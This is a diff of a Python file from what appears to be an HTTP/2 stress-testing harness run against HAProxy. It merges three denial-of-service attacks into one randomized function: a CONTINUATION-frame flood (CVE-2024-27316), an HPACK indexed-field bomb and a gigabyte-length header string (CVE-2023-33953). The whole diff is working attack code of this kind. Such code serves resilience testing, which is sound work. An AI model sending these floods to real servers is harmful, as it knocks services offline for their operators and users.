@@ -326,35 +326,22 @@ def rapid_reset(attacker):
         attacker.hold(client)
 
 
-def _continue(attacker, first, piece):
-    """Sends header fields without an end."""
+@attack(rounds=100, needs_haproxy=True)
+def endless_headers(attacker):
+    """Header fields without an end, as in CVE-2024-27316, a byte that stands for
+    a field of HPACK's table, again and again, or a field of a gigabyte, as in
+    CVE-2023-33953."""
+    whole = h2.block(h2.fields())
+    first, piece = attacker.random.choice((
+        (whole, b"".join(h2.field(f"k{i}", "v" * 60) for i in range(70))),
+        (whole + h2.field("bomb", "v" * 10, 0x40), h2.indexed(62) * 160),
+        (b"\0" + h2.string("x") + h2.integer(1 << 30, 7), b"v" * 16000)))
     with attacker.connect(ack=False) as client:
         client.send(h2.frame(h2.HEADERS, 0, 1, first))
         wire = h2.frame(h2.CONTINUATION, 0, 1, piece) * 4
         while attacker.goes_on() and not client.closed:
             client.send(wire, 1)
             attacker.delivered()
-
-
-@attack(rounds=100, needs_haproxy=True)
-def continuation_flood(attacker):
-    """Header fields without an end, as in CVE-2024-27316."""
-    _continue(attacker, h2.block(h2.fields()), b"".join(
-        h2.field(f"k{i}", "v" * 60) for i in range(70)))
-
-
-@attack(rounds=100, needs_haproxy=True)
-def hpack_bomb(attacker):
-    """A byte that stands for a field of the table, again and again."""
-    _continue(attacker, h2.block(h2.fields()) +
-              h2.field("bomb", "v" * 10, 0x40), h2.indexed(62) * 160)
-
-
-@attack(rounds=100, needs_haproxy=True)
-def endless_string(attacker):
-    """CVE-2023-33953: a field of a gigabyte."""
-    _continue(attacker, b"\x00" + h2.string("x") + h2.integer(1 << 30, 7),
-              b"v" * 16000)
 
 
 # Connections ------------------------------------------------------------------
